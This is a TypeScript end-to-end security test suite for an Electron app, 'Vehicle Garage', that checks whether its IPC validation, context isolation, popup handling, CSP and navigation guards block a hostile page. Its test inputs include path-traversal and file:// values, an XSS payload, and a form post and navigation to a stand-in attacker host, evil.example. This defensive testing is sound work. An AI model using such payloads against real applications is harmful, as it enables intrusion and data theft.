// A hostile page in the shipped app as installed (out/main/index.js under the Electron stand-in,
// launch.ts, packaged): forged arguments, a call that skips the preload, window.open and navigation
// away, each against the bundle's own IPC checks, window handlers and CSP. The policies
// themselves are unit-tested in test/unit/security/navigation-policy.test.ts; the sender checks
// against foreign frames and look-alike hosts in test/glue/shipped-main.test.ts.
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { recorded } from '../electron-standin/boot';
import { launchApp, APP_WAIT, type LaunchedApp } from '../support/launch';
import { onEmitted, waitFor } from '../support/wait-for';

async function cspViolation(page: Page, act: string): Promise<string> {
  return page.evaluate(async (script) => {
    const seen = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), {
        once: true,
      }),
    );
    new Function(script)();
    return seen;
  }, act);
}

describe('hardening end to end', () => {
  let app: LaunchedApp;
  beforeAll(async () => {
    app = await launchApp({ demo: null });
    await app.page.getByRole('heading', { name: 'Vehicle Garage' }).waitFor();
  });
  afterAll(async () => {
    await app?.close();
  });

  it('answers forged arguments from the page with invalid_input', async () => {
    const results = await app.page.evaluate(async () => {
      const garage = window.garage as unknown as Record<
        string,
        Record<string, (...args: unknown[]) => unknown>
      >;
      return Promise.all([
        garage['updates']!['install']!({ consent: 'yes' }),
        garage['updates']!['install']!({ consent: true, silent: true }),
        garage['profiles']!['create']!({ name: 'x', demo: true }),
        garage['profiles']!['create']!({ name: 'x', baseUrl: 'file:///etc/passwd' }),
        garage['profiles']!['setToken']!('id', 'x'.repeat(20_000)),
        garage['vehicles']!['command']!('5YJ3E1EA7KF317000', 'open_everything'),
        garage['vehicles']!['remove']!('../../etc/passwd'),
        garage['audit']!['list']!({ limit: 1e9 }),
      ]);
    });
    for (const result of results)
      expect(result).toMatchObject({ ok: false, error: { kind: 'invalid_input' } });
  });

  it('gives page script no way around the preload, and answers a forged call on the channel itself', async () => {
    const { page, electron } = app;
    // Context isolation: the page sees the frozen API and nothing of Electron's.
    expect(
      await page.evaluate(() => {
        const w = window as unknown as Record<string, unknown>;
        return [
          typeof w['require'],
          typeof w['ipcRenderer'],
          typeof w['process'],
          Object.isFrozen(w['garage']),
        ];
      }),
    ).toEqual(['undefined', 'undefined', 'undefined', true]);
    // What a compromised renderer could send on the channel, from the app's own top frame.
    const appFrame = {
      url: 'app://garage/index.html',
      origin: 'app://garage',
      name: '',
      parent: null,
      frameTreeNodeId: 'top',
    };
    const result = await electron.ipcMain.invoke(
      { senderFrame: { ...appFrame, top: appFrame } },
      'garage:vehicles.setPlate',
      ['5YJ3E1EA7KF317000', { plate: '<img src=x onerror=alert(1)>' }],
    );
    expect(result).toMatchObject({ ok: false, error: { kind: 'invalid_input' } });
  });

  it('opens no window for any window.open the page attempts; only an https link goes to the browser', async () => {
    const { page, window: appWindow, electron } = app;
    // The page's own origin (an app:// URL the page cannot name under the stand-in: README.md), a
    // phishing page over https and http, script and a local file.
    const attempts = [
      '/index.html',
      'https://evil.example/',
      'http://evil.example/',
      'javascript:alert(1)',
      'file:///etc/passwd',
    ];
    const before = appWindow.webContents.windowOpens.length;
    const shellBefore = recorded().shellCalls.length;
    await page.evaluate((urls) => urls.forEach((url) => window.open(url)), attempts);
    // javascript: and file: popups make no request Chromium would let out (the stand-in asks the
    // handler at a popup's first request); the other three are decided by the app's handler.
    await waitFor(
      () => appWindow.webContents.windowOpens.length >= before + 3,
      'window open decisions',
      APP_WAIT,
    );
    const decided = appWindow.webContents.windowOpens.slice(before);
    expect(decided.map((entry) => entry.url).sort()).toEqual([
      'app://garage/index.html',
      'http://evil.example/',
      'https://evil.example/',
    ]);
    expect(decided.every((entry) => entry.action === 'deny')).toBe(true);
    await waitFor(() => page.context().pages().length === 1, 'the refused popups to close', APP_WAIT);
    expect(electron.BrowserWindow.getAllWindows()).toEqual([appWindow]);
    expect(recorded().shellCalls.slice(shellBefore)).toEqual([
      { method: 'openExternal', args: ['https://evil.example/'] },
    ]);
  });

  it('stays at app://garage: the CSP blocks form posts and <base>, will-navigate the rest', async () => {
    const { page, window: appWindow } = app;
    expect(
      await cspViolation(
        page,
        `const f = document.createElement('form'); f.method = 'post'; f.action = 'https://evil.example/steal';
         document.body.append(f); f.submit(); f.remove();`,
      ),
    ).toBe('form-action');
    expect(
      await cspViolation(
        page,
        `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b);`,
      ),
    ).toBe('base-uri');
    await page.evaluate(() => document.querySelector('base')?.remove());

    const seen: { url: string; prevented: boolean }[] = [];
    const listener = (event: { defaultPrevented: boolean }, url: string) =>
      seen.push({ url, prevented: event.defaultPrevented });
    appWindow.webContents.on('will-navigate', listener);
    // The refused navigation ends as a failed request; after that nothing can replace the page.
    const refused = page.waitForEvent(
      'requestfailed',
      (request) => request.url() === 'https://evil.example/phish',
    );
    await page.evaluate(() => {
      location.href = 'https://evil.example/phish';
    });
    await waitFor(() => seen.length > 0, 'will-navigate', {
      ...APP_WAIT,
      wakeOn: onEmitted(appWindow.webContents, 'will-navigate'),
    });
    appWindow.webContents.off('will-navigate', listener);
    expect(seen).toEqual([{ url: 'https://evil.example/phish', prevented: true }]);
    await refused;
    expect(appWindow.webContents.getURL()).toBe('app://garage/index.html');
    await page.getByRole('heading', { name: 'Vehicle Garage' }).waitFor();
  });
});
